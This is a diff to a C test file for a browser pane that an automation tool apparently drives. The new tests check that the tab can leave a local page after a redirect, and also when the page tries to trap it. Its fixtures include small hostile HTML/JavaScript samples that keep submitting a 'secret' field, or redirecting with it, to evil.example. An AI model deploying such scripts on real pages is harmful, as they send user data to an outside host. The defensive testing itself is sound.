@@ -192,6 +192,69 @@ test_no_site_reads_the_computer (void)
   g_assert_false (pane_fixture_was_asked (self, "GET localhost.computer:8000/data"));
 }
 
+/* ---------------------------------------------------------------- leaving the computer's page */
+
+static gboolean
+is_at (AnnexBrowserTab *tab, const char *title)
+{
+  return g_str_equal (annex_browser_tab_get_title (tab), title) &&
+         !annex_browser_tab_is_loading (tab);
+}
+
+static void
+assert_gets_to (AnnexBrowserTab *tab, const char *title)
+{
+  pane_wait_until (is_at (tab, title) || annex_browser_tab_get_failure (tab) != NULL);
+  g_assert_no_error (annex_browser_tab_get_failure (tab));
+}
+
+static void
+add_moved (PaneFixture *self)
+{
+  pane_fixture_page (self, "site.example/moved", "Location: http://bank.example/there", "");
+  pane_fixture_page (self, "bank.example/there", NULL, "<title>There</title>x");
+}
+
+/* An address of the user's may lead elsewhere, as gmail.com does. */
+static void
+test_leaving_for_a_redirect (void)
+{
+  g_autoptr (PaneFixture) self = new_fixture ();
+  AnnexBrowserTab *tab;
+
+  add_moved (self);
+  pane_fixture_page (self, "localhost.computer:8000/", NULL, "<title>Mine</title>x");
+  tab = annex_browser_pane_open (self->pane, COMPUTER);
+  assert_gets_to (tab, "Mine");
+  annex_browser_pane_load (self->pane, tab, "http://site.example/moved");
+  assert_gets_to (tab, "There");
+  g_assert_cmpstr (annex_browser_tab_get_page_uri (tab), ==, "http://bank.example/there");
+  g_assert_cmpuint (self->asked->len, ==, 0);
+  /* A step back leads to the page, and no empty one lies between. */
+  annex_browser_tab_go_back (tab);
+  assert_gets_to (tab, "Mine");
+  annex_browser_tab_go_forward (tab);
+  assert_gets_to (tab, "There");
+}
+
+/* Not even a page that does all it can to lead elsewhere itself keeps the user. */
+static void
+test_leaving_a_page_that_clings (gconstpointer page)
+{
+  g_autoptr (PaneFixture) self = new_fixture ();
+  AnnexBrowserTab *tab;
+
+  add_moved (self);
+  pane_fixture_page (self, "localhost.computer:8000/", NULL, page);
+  pane_fixture_page (self, "localhost.computer:8000/frame", NULL, "frame");
+  tab = annex_browser_pane_open (self->pane, COMPUTER);
+  pane_wait_until (g_str_equal (annex_browser_tab_get_title (tab), "Mine"));
+  pane_wait_ms (500);
+  annex_browser_pane_load (self->pane, tab, "http://site.example/moved");
+  pane_wait_until (is_at (tab, "There"));
+  assert_nothing_left (self);
+}
+
 /* ---------------------------------------------------------------- a page that was left in front */
 
 static void
@@ -199,6 +262,7 @@ test_untouched_page (void)
 {
   g_autoptr (PaneFixture) self = new_fixture ();
   g_autoptr (GError) error = NULL;
+  gint64 until_us;
 
   pane_fixture_page (self, "site.example/late", NULL,
                      "<title>Late</title><script>setInterval(() => {"
@@ -221,10 +285,15 @@ test_untouched_page (void)
   /* Until Annex drives again. */
   g_assert_true (pane_fixture_visit (self, "http://site.example/late", &error));
   annex_browser_end (ANNEX_BROWSER (self->pane));
-  pane_wait_ms (200);
-  g_ptr_array_set_size (self->requests, 0);
-  pane_wait_ms (300);
-  g_assert_cmpuint (pane_fixture_count_host (self, "evil.example"), ==, 0);
+  until_us = g_get_monotonic_time () + 20 * G_USEC_PER_SEC;
+  /* What was on its way then may still come. */
+  do
+    {
+      g_assert_cmpint (g_get_monotonic_time (), <, until_us);
+      g_ptr_array_set_size (self->requests, 0);
+      pane_wait_ms (500);
+  } while (pane_fixture_count_host (self, "evil.example") > 0);
+  g_assert_cmpuint (pane_fixture_count_host (self, "bank.example"), >, 0);
 }
 
 /* ---------------------------------------------------------------- what takes its time */
@@ -387,6 +456,23 @@ test_handing_back_on_the_way (void)
   g_assert_cmpuint (self->asked->len, ==, 1);
 }
 
+static const struct
+{
+  const char *path;
+  const char *page;
+} clinging[] = {
+  { "/browser/hands/leaving-a-page-that-submits",
+    "<title>Mine</title><form action='http://evil.example/x' method=post>"
+    "<input name=a value=secret></form>"
+    "<script>setInterval(() => { document.forms[0].submit() }, 5)</script>" },
+  { "/browser/hands/leaving-a-page-that-leads",
+    "<title>Mine</title><script>"
+    "setInterval(() => { location = 'http://evil.example/x?secret' }, 5)</script>" },
+  { "/browser/hands/leaving-a-page-of-frames",
+    "<title>Mine</title><iframe src='/frame'></iframe><script>"
+    "setInterval(() => { frames[0].location = '/frame?' + Math.random() }, 20)</script>" },
+};
+
 int
 main (int argc, char **argv)
 {
@@ -397,6 +483,9 @@ main (int argc, char **argv)
   g_test_add_func ("/browser/hands/computer-page-and-windows", test_computer_page_and_windows);
   g_test_add_func ("/browser/hands/computer-page-sends-on", test_computer_page_sends_on);
   g_test_add_func ("/browser/hands/no-site-reads-the-computer", test_no_site_reads_the_computer);
+  g_test_add_func ("/browser/hands/leaving-for-a-redirect", test_leaving_for_a_redirect);
+  for (guint i = 0; i < G_N_ELEMENTS (clinging); i++)
+    g_test_add_data_func (clinging[i].path, clinging[i].page, test_leaving_a_page_that_clings);
   g_test_add_func ("/browser/hands/untouched-page", test_untouched_page);
   g_test_add_func ("/browser/hands/name-of-the-page", test_name_of_the_page);
   g_test_add_func ("/browser/hands/handing-back-on-the-way", test_handing_back_on_the_way);
